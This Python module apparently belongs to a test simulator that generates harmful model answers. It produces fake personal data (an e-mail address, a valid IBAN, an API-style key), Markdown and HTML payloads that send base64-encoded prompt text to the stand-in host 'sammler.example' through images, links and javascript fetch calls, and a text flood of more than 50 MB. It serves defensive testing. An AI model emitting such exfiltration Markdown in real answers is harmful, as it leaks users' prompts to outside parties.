"""What a bad answer may carry: somebody's data, Markdown that sends data away, and far too much text."""

import base64
import random
import string

from portal.simulator.prose.bank import Bank

HUGE_BYTES = 50_000_000
HUGE_PIECE = 65_536
GIVEN_NAMES = ("frieda", "gustav", "helene", "konrad", "martha", "oskar")
FAMILY_NAMES = ("ahrens", "brinkmann", "dietrich", "gerlach", "lohmann", "wieland")


def leak(bank: Bank, seed: int) -> str:
    """Return a paragraph with an e-mail address, a valid IBAN and a key that stand in no prompt."""
    rng = random.Random(seed ^ 0x1EAC)  # noqa: S311  repeatable, not secret
    email = f"{rng.choice(GIVEN_NAMES)}.{rng.choice(FAMILY_NAMES)}{rng.randint(10, 99)}@example.net"
    key = "sk-" + "".join(rng.choices(string.ascii_letters + string.digits, k=48))
    return bank.leaked.format(email=email, iban=iban(rng), key=key)


def iban(rng: random.Random) -> str:
    """Return a German IBAN whose check digits are right (ISO 13616, mod 97)."""
    account = "".join(rng.choices(string.digits, k=18))
    check = 98 - int(f"{account}131400") % 97  # DE00, letters as numbers
    return f"DE{check:02d}{account}"


def exfiltrate(bank: Bank, prompt: str, first: str) -> str:
    """Return Markdown whose rendering or click would send a piece of the prompt to a stranger."""
    data = base64.urlsafe_b64encode(prompt[-60:].encode("utf-8", "replace")).decode()
    host = "https://sammler.example"
    return "\n\n".join(
        (
            bank.exfil_lead,
            f"![Status]({host}/pixel.png?d={data})",
            f"[Übersicht]({host}/bericht?wer={first}&d={data})",
            f"[Details](javascript:fetch('{host}?d={data}'))",
            f'<img src="{host}/x.png?d={data}" onerror="fetch(\'{host}\')">',
            f"![Grafik][1]\n\n[1]: {host}/grafik.svg?d={data}",
        )
    )


def huge(bank: Bank) -> list[str]:
    """Return pieces of text that make at least 50 MB together."""
    text = bank.notice + "\n\n" + " ".join(line.replace("{", "").replace("}", "") for line in bank.statements)
    piece = (text * (HUGE_PIECE // len(text) + 1))[:HUGE_PIECE]
    return [piece] * (HUGE_BYTES // HUGE_PIECE + 1)
